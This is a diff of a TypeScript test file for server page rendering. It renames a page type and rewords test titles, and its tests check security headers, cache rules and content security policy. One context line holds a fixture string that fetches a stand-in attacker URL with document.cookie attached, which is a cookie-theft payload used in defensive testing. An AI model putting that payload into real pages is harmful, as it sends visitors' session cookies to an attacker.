@@ -1,9 +1,9 @@
 import { createHash } from 'node:crypto'
 import { describe, expect, it } from 'vitest'
+import type { CachedPage } from './cached-page.server.ts'
 import { lastResort } from './last-resort.server.ts'
 import { type Rendering, type RenderSite, renderPage } from './render-page.server.ts'
 import { securityHeaders } from './security-headers.server.ts'
-import type { StoredPage } from './stored-page.server.ts'
 
 const own = '$_TSR.begin()'
 const injected = 'fetch("https://evil.example/"+document.cookie)'
@@ -39,7 +39,7 @@ async function render(
   )
 }
 
-function headersAndText(page: StoredPage) {
+function headersAndText(page: CachedPage) {
   const { headers, body } = page.variants.identity
   const pairs = headers.flatMap((name, index) =>
     index % 2 === 0 ? [[name, headers[index + 1] ?? '']] : [],
@@ -145,13 +145,13 @@ describe('a rendered page', () => {
     expect((await render()).headers).toMatchObject(securityHeaders({ https: true }))
   })
 
-  it('of drafts is kept by nobody and found by no search engine', async () => {
+  it('of drafts is cached by nobody and found by no search engine', async () => {
     const { headers } = await render(site(), { preview: true })
     expect(headers).toMatchObject({ 'cache-control': 'no-store', 'x-robots-tag': 'noindex' })
     expect(policyOf(headers)['frame-ancestors']).toEqual(["'none'"])
   })
 
-  it.each([404, 500])('that is an error (%i) is kept by nobody', async (status) => {
+  it.each([404, 500])('that is an error (%i) is cached by nobody', async (status) => {
     const { headers, page } = await render(site(status))
     expect([page.status, headers['cache-control']]).toEqual([status, 'no-store'])
     expect(headers).toHaveProperty('content-security-policy')
